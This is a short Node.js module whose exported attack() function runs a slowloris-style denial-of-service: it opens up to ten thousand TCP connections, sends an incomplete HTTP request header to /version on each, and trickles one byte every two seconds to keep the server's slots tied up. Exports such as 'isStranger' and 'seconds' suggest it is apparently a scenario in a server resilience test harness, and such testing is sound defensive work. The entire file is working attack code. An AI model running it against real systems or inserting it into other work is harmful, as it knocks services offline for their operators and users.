// Ten thousand connections whose headers come a byte at a time, each in the place of one that was ended.
import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";

const COUNT = 10_000;
/** Opened in each step: a machine accepts no more. */
const AT_ONCE = 50;
/** Between two bytes of a connection. */
const DRIP_MS = 2000;
const STEP_MS = 10;

export const isStranger = true;
export const seconds = 20;

export async function attack({ host, port, localAddress }) {
  const sockets = new Set();
  const drip = () => {
    // The one whose last byte is oldest stands first.
    const due = [...sockets].slice(0, Math.ceil((sockets.size * STEP_MS) / DRIP_MS));
    for (const socket of due) {
      sockets.delete(socket);
      sockets.add(socket);
      socket.write("x");
    }
  };
  for (;;) {
    for (let i = 0; i < AT_ONCE && sockets.size < COUNT; i++) {
      const socket = connect({ host, port, localAddress });
      sockets.add(socket);
      socket.on("error", () => {}).on("close", () => sockets.delete(socket));
      socket.resume().write("GET /version HTTP/1.1\r\nHost: a\r\nX: ");
    }
    drip();
    await sleep(STEP_MS);
  }
}
